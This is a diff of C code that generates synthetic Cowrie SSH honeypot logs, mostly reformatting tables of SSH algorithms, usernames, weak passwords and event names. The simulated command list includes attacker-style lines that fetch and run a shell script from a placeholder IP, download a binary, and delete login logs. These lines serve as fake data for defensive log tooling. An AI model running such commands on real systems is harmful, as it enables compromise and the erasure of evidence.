@@ -14,31 +14,51 @@ static const struct {
      "\"kexAlgs\":[\"curve25519-sha256\",\"ecdh-sha2-nistp256\",\"diffie-hellman-group14-sha256\",\"ext-info-c\"],"
      "\"keyAlgs\":[\"rsa-sha2-512\",\"rsa-sha2-256\",\"ssh-rsa\",\"ecdsa-sha2-nistp256\",\"ssh-ed25519\"],"
      "\"encCS\":[\"aes128-gcm@openssh.com\",\"chacha20-poly1305@openssh.com\",\"aes128-ctr\",\"aes256-ctr\"],"
-     "\"macCS\":[\"hmac-sha2-256-etm@openssh.com\",\"hmac-sha2-256\",\"hmac-sha1\"],\"compCS\":[\"none\"],\"langCS\":[\"\"]"},
+     "\"macCS\":[\"hmac-sha2-256-etm@openssh.com\",\"hmac-sha2-256\",\"hmac-sha1\"],\"compCS\":[\"none\"],\"langCS\":["
+     "\"\"]"},
     {"SSH-2.0-libssh2_1.10.0", "71bca6a2ef2231ef60a6f04765f385ba",
-     "ecdh-sha2-nistp256,ecdh-sha2-nistp384,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha1;aes256-ctr,"
+     "ecdh-sha2-nistp256,ecdh-sha2-nistp384,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha1;aes256-"
+     "ctr,"
      "aes128-ctr,aes256-cbc,3des-cbc;hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-md5;none",
      "\"kexAlgs\":[\"ecdh-sha2-nistp256\",\"ecdh-sha2-nistp384\",\"diffie-hellman-group-exchange-sha256\","
-     "\"diffie-hellman-group14-sha1\"],\"keyAlgs\":[\"rsa-sha2-512\",\"rsa-sha2-256\",\"ssh-rsa\",\"ecdsa-sha2-nistp256\","
+     "\"diffie-hellman-group14-sha1\"],\"keyAlgs\":[\"rsa-sha2-512\",\"rsa-sha2-256\",\"ssh-rsa\",\"ecdsa-sha2-"
+     "nistp256\","
      "\"ssh-ed25519\"],\"encCS\":[\"aes256-ctr\",\"aes128-ctr\",\"aes256-cbc\",\"3des-cbc\"],"
-     "\"macCS\":[\"hmac-sha2-256\",\"hmac-sha2-512\",\"hmac-sha1\",\"hmac-md5\"],\"compCS\":[\"none\"],\"langCS\":[\"\"]"},
+     "\"macCS\":[\"hmac-sha2-256\",\"hmac-sha2-512\",\"hmac-sha1\",\"hmac-md5\"],\"compCS\":[\"none\"],\"langCS\":["
+     "\"\"]"},
     {"SSH-2.0-OpenSSH_8.9", "2330e480f3fa4c8854ec46015b442b24",
      "sntrup761x25519-sha512@openssh.com,curve25519-sha256,ecdh-sha2-nistp521,diffie-hellman-group16-sha512,ext-info-c;"
      "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes256-gcm@openssh.com;umac-64-etm@openssh.com,"
      "umac-128-etm@openssh.com,hmac-sha2-512-etm@openssh.com;none,zlib@openssh.com",
      "\"kexAlgs\":[\"sntrup761x25519-sha512@openssh.com\",\"curve25519-sha256\",\"ecdh-sha2-nistp521\","
      "\"diffie-hellman-group16-sha512\",\"ext-info-c\"],\"keyAlgs\":[\"rsa-sha2-512\",\"rsa-sha2-256\",\"ssh-rsa\","
-     "\"ecdsa-sha2-nistp256\",\"ssh-ed25519\"],\"encCS\":[\"chacha20-poly1305@openssh.com\",\"aes128-ctr\",\"aes192-ctr\","
+     "\"ecdsa-sha2-nistp256\",\"ssh-ed25519\"],\"encCS\":[\"chacha20-poly1305@openssh.com\",\"aes128-ctr\",\"aes192-"
+     "ctr\","
      "\"aes256-ctr\",\"aes256-gcm@openssh.com\"],\"macCS\":[\"umac-64-etm@openssh.com\",\"umac-128-etm@openssh.com\","
      "\"hmac-sha2-512-etm@openssh.com\"],\"compCS\":[\"none\",\"zlib@openssh.com\"],\"langCS\":[\"\"]"},
 };
 
-static const char *const users[] = {"root", "root", "root", "admin", "user", "test", "ubuntu", "oracle", "git", "postgres", "pi", "guest"};
-static const char *const passwords[] = {"123456", "admin", "root-2024", "Passw0rd", "test", "changeme", "qwerty7", "1q2w3e", "letmein9",
-                                        "Winter!7", "a\\\"b", "=1+2", "<b>x</b>", "", "abc-4711", "P@ss-word"};
+static const char *const users[] = {"root",   "root",   "root", "admin",    "user", "test",
+                                    "ubuntu", "oracle", "git",  "postgres", "pi",   "guest"};
+static const char *const passwords[] = {"123456",   "admin",  "root-2024", "Passw0rd", "test",   "changeme",
+                                        "qwerty7",  "1q2w3e", "letmein9",  "Winter!7", "a\\\"b", "=1+2",
+                                        "<b>x</b>", "",       "abc-4711",  "P@ss-word"};
 static const char *const commands[] = {
-    "uname -a", "ls -la /tmp", "cat /proc/cpuinfo | grep name | wc -l", "whoami", "free -m", "uptime", "cd /tmp; wget http://198.51.100.7/b.sh; sh b.sh",
-    "nproc", "echo \\\"ok\\\"", "crontab -l", "/bin/busybox TEST", "curl -O http://203.0.113.9/x86", "w", "rm -rf /var/log/lastlog", "lscpu",
+    "uname -a",
+    "ls -la /tmp",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "whoami",
+    "free -m",
+    "uptime",
+    "cd /tmp; wget http://198.51.100.7/b.sh; sh b.sh",
+    "nproc",
+    "echo \\\"ok\\\"",
+    "crontab -l",
+    "/bin/busybox TEST",
+    "curl -O http://203.0.113.9/x86",
+    "w",
+    "rm -rf /var/log/lastlog",
+    "lscpu",
 };
 static const char *const archs[] = {"linux-x64-lsb", "linux-arm-lsb", "linux-mips-msb", "bsd-x64-lsb"};
 
@@ -110,7 +130,8 @@ static char *put_version(char *p, const struct hg_gen_session *session)
 
 static char *put_login(char *p, const struct hg_gen_session *session, bool success)
 {
-    const char *user = users[dice(session, 1) % LENGTH(users)], *password = passwords[dice(session, 2) % LENGTH(passwords)];
+    const char *user = users[dice(session, 1) % LENGTH(users)],
+               *password = passwords[dice(session, 2) % LENGTH(passwords)];
     p = TXT(p, "\"username\":\"");
     p = txt_text(p, user);
     p = TXT(p, "\",\"password\":\"");
@@ -139,7 +160,8 @@ static char *put_file(char *p, const struct hg_gen_session *session, bool upload
     uint64_t malware = session->id % 24; /* a few families, seen again and again */
     char digest[64];
     (void)put_hex(digest, malware, 64);
-    p = upload ? TXT(p, "\"filename\":\"payload.bin\",\"outfile\":\"var/lib/cowrie/downloads/") : TXT(p, "\"url\":\"http://");
+    p = upload ? TXT(p, "\"filename\":\"payload.bin\",\"outfile\":\"var/lib/cowrie/downloads/")
+               : TXT(p, "\"url\":\"http://");
     if (!upload) {
         p = txt_ip(p, hg_world_public(900000 + malware));
         p = TXT(p, "/bins/a.sh\",\"outfile\":\"var/lib/cowrie/downloads/");
@@ -175,7 +197,8 @@ static char *put_proxy(char *p, const struct hg_gen_session *session)
 static char *put_proxy_data(char *p, const struct hg_gen_session *session)
 {
     p = put_target(p, session);
-    p = session->id % 3 == 0 ? TXT(p, ",\"data\":\"b'\\\\x16\\\\x03\\\\x01\\\\x02'\",\"id\":") : TXT(p, ",\"data\":\"b'EHLO a\\\\r\\\\n'\",\"id\":");
+    p = session->id % 3 == 0 ? TXT(p, ",\"data\":\"b'\\\\x16\\\\x03\\\\x01\\\\x02'\",\"id\":")
+                             : TXT(p, ",\"data\":\"b'EHLO a\\\\r\\\\n'\",\"id\":");
     p = txt_u64(p, session->step / 2u);
     return TXT(p, ",\"message\":\"discarded direct-tcp forward request\"");
 }
@@ -263,9 +286,11 @@ static char *put_members(char *p, const struct hg_gen_session *session, enum hg_
 
 char *hg_write_cowrie(char *p, const struct hg_gen_session *session, enum hg_gen_step step, int64_t time_us)
 {
-    static const char *const names[] = {"session.connect", "client.version", "client.kex", "login.failed", "login.success", "client.size",
-                                        "client.var", "session.params", "command.input", "command.failed", "session.file_download",
-                                        "session.file_upload", "direct-tcpip.request", "direct-tcpip.data", "log.closed", "session.closed"};
+    static const char *const names[] = {
+        "session.connect",       "client.version",      "client.kex",           "login.failed",      "login.success",
+        "client.size",           "client.var",          "session.params",       "command.input",     "command.failed",
+        "session.file_download", "session.file_upload", "direct-tcpip.request", "direct-tcpip.data", "log.closed",
+        "session.closed"};
     p = TXT(p, "{\"eventid\":\"cowrie.");
     p = txt_text(p, names[step]);
     p = TXT(p, "\",");
